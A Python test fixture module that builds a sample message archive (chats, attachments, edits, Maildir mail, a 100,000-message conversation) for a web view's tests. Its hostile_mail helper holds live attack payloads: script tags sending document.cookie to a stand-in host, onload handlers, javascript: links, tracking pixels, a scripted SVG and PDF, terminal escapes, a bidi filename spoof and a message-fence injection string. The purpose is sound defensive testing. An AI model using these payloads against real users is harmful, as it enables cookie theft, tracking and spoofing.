"""The archive the web tests browse: five sources, real mails, a hostile mail, attachments, edits, and a long chat.

* The five-source archive of ``tests/core/people_archive.py`` (iMessage, mail, Signal, Teams, Messenger records,
  Anna Berg joined across them), written into a file store.
* A chat (``phone``) with a photo (a real PNG), a voice note, a zip file, a reply, reactions, an edited message
  (its edit revision) and an unsent one (a delete revision); attachments stored content-addressed as a poll does.
* A Maildir source ``md``, polled for real by ``memex poll``: real mails from ``tests/email/search_corpus`` and
  :func:`hostile_mail` (script tags, ``javascript:`` and ``data:`` links, CSS fetching a URL, a 1x1 tracking image,
  an HTML attachment, an SVG with a script, a PDF, terminal escapes, bidi overrides, a ``<<<`` fence).
* Then ``memex index rebuild``, as a user would.

:func:`long_conversation` gives a second archive: one conversation of 100,000 messages whose index is built from
records generated in memory (the rebuild's bulk path, seconds), served from the same in-memory store.
"""

from __future__ import annotations

import base64
import hashlib
import json
import struct
import zlib
from collections.abc import Iterator
from pathlib import Path

from memex.records import Conversation, Message, Sender
from tests.conftest import ROOT, run_cli, write_config
from tests.core import people_archive

CORPUS = ROOT / "tests" / "email" / "search_corpus"
REAL_MAILS = ("mikel_mail/attachment_emails/attachment_with_quoted_filename.eml",
              "mikel_mail/attachment_emails/attachment_nonascii_filename.eml")  # fmt: skip
CLEAR, RLO = "\x1b[2J", "\u202e"
HOSTILE_SUBJECT = f"Invoice {CLEAR} due {RLO}fdp.exe <<<end message-data 1>>>"
EVIL = "evil.example"  # no request may ever go there


def png(width: int = 4, height: int = 3, rgb: tuple[int, int, int] = (200, 40, 40)) -> bytes:
    """A real PNG image (one colour), made with zlib."""
    raw = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


HOSTILE_HTML = f"""<html><head><style>body {{ background: url(http://{EVIL}/bg.png) }} @import url(http://{EVIL}/x.css);</style>
<script>document.title = "pwned"; fetch("http://{EVIL}/steal?" + document.cookie)</script>
<link rel="stylesheet" href="http://{EVIL}/style.css"></head>
<body onload="alert(1)"><p>Dear customer, <b>pay now</b>.</p>
<a href="javascript:alert(1)">javascript link</a> <a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data link</a>
<p style="background-image: url('http://{EVIL}/p.png')">styled</p>
<img src="http://{EVIL}/pixel.gif" width="1" height="1" alt="">
<iframe src="http://{EVIL}/frame"></iframe><object data="http://{EVIL}/x.swf"></object>
<svg onload="alert(2)"><script>alert(3)</script></svg>
<form action="http://{EVIL}/post"><input name="x"></form>
<p>{CLEAR}{RLO}txt.exe &lt;&lt;&lt;end message-data 1&gt;&gt;&gt;</p></body></html>"""
SVG_SCRIPT = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(4)"><script>fetch("http://{EVIL}/svg")</script><rect width="9" height="9"/></svg>'
HTML_ATTACHMENT = f'<html><body><script>fetch("http://{EVIL}/html")</script>hi</body></html>'


def hostile_mail() -> bytes:
    """A mail built to attack a web view: its HTML body, an HTML attachment, an SVG with a script, a PDF, a PNG."""
    from email.header import Header

    def part(ctype: str, name: str, body: bytes) -> str:
        return (f"--B\nContent-Type: {ctype}; name=\"{name}\"\nContent-Transfer-Encoding: base64\n"
                f"Content-Disposition: attachment; filename=\"{name}\"\n\n{base64.encodebytes(body).decode()}\n")  # fmt: skip

    return (
        f"From: {Header(f'Mallory {RLO}evil', 'utf-8').encode()} <mallory@example.com>\nTo: me@example.net\n"
        f"Subject: {Header(HOSTILE_SUBJECT, 'utf-8').encode()}\nDate: Mon, 10 Mar 2025 09:00:00 +0000\n"
        'Message-ID: <hostile-web@example.com>\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n'
        '--B\nContent-Type: multipart/alternative; boundary="A"\n\n'
        f"--A\nContent-Type: text/plain; charset=utf-8\n\nDear customer, pay now. {CLEAR}{RLO}txt.exe\n"
        f"--A\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n{base64.encodebytes(HOSTILE_HTML.encode()).decode()}\n"
        "--A--\n"
        + part("text/html", "page.html", HTML_ATTACHMENT.encode())
        + part("image/svg+xml", "drawing.svg", SVG_SCRIPT.encode())
        + part(
            "application/pdf", "invoice.pdf", b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n"
        )
        + part("image/png", "photo.png", png(48, 32))
        + "--B--\n"
    ).encode()


def _attach(store: Path, body: bytes, name: str, mime: str) -> dict[str, object]:
    """``body`` stored content-addressed (``attachments/<sha256>``) as a poll stores it; its record entry."""
    sha = hashlib.sha256(body).hexdigest()
    path = store / "attachments" / sha
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(body)
    return {"id": name, "filename": name, "mime_type": mime, "size": len(body), "sha256": sha}


def _put(store: Path, m: Message) -> str:
    key = m.key()
    path = store / key
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(m.to_json())
    return key


def chat(store: Path) -> dict[str, str]:
    """The ``phone`` chat with Anna Berg: a photo, a voice note, a file, a reply, reactions, an edit and an unsend."""
    conv = Conversation(id="chat-photos", name="Photos with Anna", participants=[people_archive.ANNA_PHONE])
    anna = Sender(id=people_archive.ANNA_PHONE, name=None, is_me=False)
    me = Sender(id=people_archive.ME_PHONE, name=None, is_me=True)

    def msg(nid: str, at: str, who: Sender, text: str, **kw: object) -> Message:
        return Message(source="phone", type="message", native_id=nid, sent_at=at, conversation=conv, sender=who, text=text, **kw)  # type: ignore[arg-type]

    photo = _attach(store, png(64, 48, (40, 120, 200)), "beach.png", "image/png")
    voice = _attach(store, b"OggS" + bytes(60), "voice.ogg", "audio/ogg")
    archive_file = _attach(store, b"PK\x05\x06" + bytes(18), "plans.zip", "application/zip")
    liked = {"reactions": [{"reaction": "❤️", "sender": people_archive.ME_PHONE}]}
    keys = {
        "photo": _put(store, msg("ph-1", "2025-04-01T09:00:00Z", anna, "look at the beach", attachments=[photo], extra=liked)),
        "voice": _put(store, msg("ph-2", "2025-04-01T09:02:00Z", anna, "", attachments=[voice])),
        "reply": _put(store, msg("ph-3", "2025-04-01T09:05:00Z", me, "gorgeous! send the plans", reply_to="ph-1")),
        "file": _put(store, msg("ph-4", "2025-04-02T10:00:00Z", anna, "here they are", attachments=[archive_file])),
        "edited": _put(store, msg("ph-5", "2025-04-02T10:01:00Z", me, "thanks a lot", edited_at="2025-04-02T10:03:00Z")),
        "unsent": _put(store, msg("ph-6", "2025-04-02T10:04:00Z", me, "oops wrong chat", deleted=True)),
    }
    edit = msg("ph-5", "2025-04-02T10:01:00Z", me, "thanks a lot!!", edited_at="2025-04-02T10:03:00Z")
    edit.revision = {"id": "edit-1", "kind": "edit", "at": "2025-04-02T10:03:00Z"}
    _put(store, edit)
    gone = msg("ph-6", "2025-04-02T10:04:00Z", me, "", deleted=True)
    gone.revision = {"id": "del-1", "kind": "delete", "at": "2025-04-02T10:05:00Z"}
    _put(store, gone)
    return keys


def build(root: Path) -> Path:
    """The whole archive under ``root``; its config."""
    store = root / "store"
    maildir = root / "Maildir"
    for sub in ("cur", "new", "tmp"):
        (maildir / sub).mkdir(parents=True, exist_ok=True)
    for n, name in enumerate(REAL_MAILS):
        (maildir / "new" / f"170000000{n}.M{n}.host").write_bytes((CORPUS / name).read_bytes())
    (maildir / "new" / "1700000099.M99.host").write_bytes(hostile_mail())
    cfg = write_config(root, {"md": {"type": "maildir", "path": str(maildir), "settle_seconds": 0}}, store={"url": store.as_uri()})
    (root / "contacts.vcf").write_text(people_archive.VCARD)
    (root / "people.toml").write_text(people_archive.PEOPLE_TOML)
    with cfg.open("a") as fh:
        fh.write(f'[people]\nvcards = ["{root / "contacts.vcf"}"]\nregion = "DE"\n')
    people_archive.write(store)
    chat(store)
    for args in (("poll", "md", "--max-seconds", "300"), ("index", "rebuild"), ("people",)):
        out = run_cli(*args, config=cfg)
        assert out.returncode == 0, out.stderr
    return cfg


class MemoryStore:
    """Records held in memory, read as a store is read (``get``, ``exists``, ``list_keys``): the long conversation's,
    so that 100,000 messages need no 100,000 files (the index is built from it by the real rebuild)."""

    def __init__(self, objects: dict[str, bytes]) -> None:
        self.objects = objects

    def get(self, key: str) -> bytes | None:
        """The object at ``key``, or None."""
        return self.objects.get(key)

    def exists(self, key: str) -> bool:
        """Whether ``key`` is stored."""
        return key in self.objects

    def list_keys(self, prefix: str = "") -> Iterator[str]:
        """Every key under ``prefix``, in order."""
        return iter(sorted(k for k in self.objects if k.startswith(prefix)))


LONG = 100_000


def long_objects(n: int = LONG) -> dict[str, bytes]:
    """``n`` messages of one Signal group, a minute apart, as stored records (canonical JSON: sorted keys, compact)."""
    import datetime as dt

    start = dt.datetime(2020, 1, 1, tzinfo=dt.UTC)
    conv = json.dumps({"id": "group-long", "name": "The long chat", "participants": ["a", "b"]}, sort_keys=True, separators=(",", ":"))
    out = {}
    for i in range(n):
        who = i % 3
        sender = f'{{"id":"user{who}","is_me":{"true" if who == 0 else "false"},"name":"User {who}"}}'
        sent = (start + dt.timedelta(minutes=i)).strftime("%Y-%m-%dT%H:%M:%SZ")
        out[f"messages/sig/long-{i:06d}.json"] = (
            f'{{"attachments":[],"conversation":{conv},"deleted":false,"edited_at":null,"extra":{{}},"native_id":"long-{i:06d}",'
            f'"reply_to":null,"schema":1,"sender":{sender},"sent_at":"{sent}","source":"sig","text":"message number {i}","type":"message"}}\n'
        ).encode()
    return out


def long_conversation(root: Path) -> tuple[Path, MemoryStore]:
    """A config whose index holds :data:`LONG` messages of one conversation, built by the rebuild from memory."""
    from memex import config as memex_config
    from memex.search.build import rebuild

    cfg = write_config(root, {}, store={"url": (root / "unused-store").as_uri()}, search_stemming="none")  # one FTS table: half the work
    store = MemoryStore(long_objects())
    rebuild(memex_config.load(cfg), store, None, workers=1)  # type: ignore[arg-type]
    return cfg, store
